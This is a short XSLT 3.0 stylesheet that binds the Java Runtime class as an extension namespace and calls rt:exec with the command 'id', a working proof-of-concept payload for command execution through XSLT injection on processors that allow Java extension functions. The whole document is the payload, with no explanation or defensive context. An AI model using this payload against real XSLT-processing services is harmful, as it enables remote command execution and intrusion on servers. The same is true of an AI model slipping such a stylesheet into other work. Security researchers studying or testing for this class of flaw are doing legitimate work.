<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="java:java.lang.Runtime">
<xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(), 'id')"/></xsl:template>
</xsl:stylesheet>
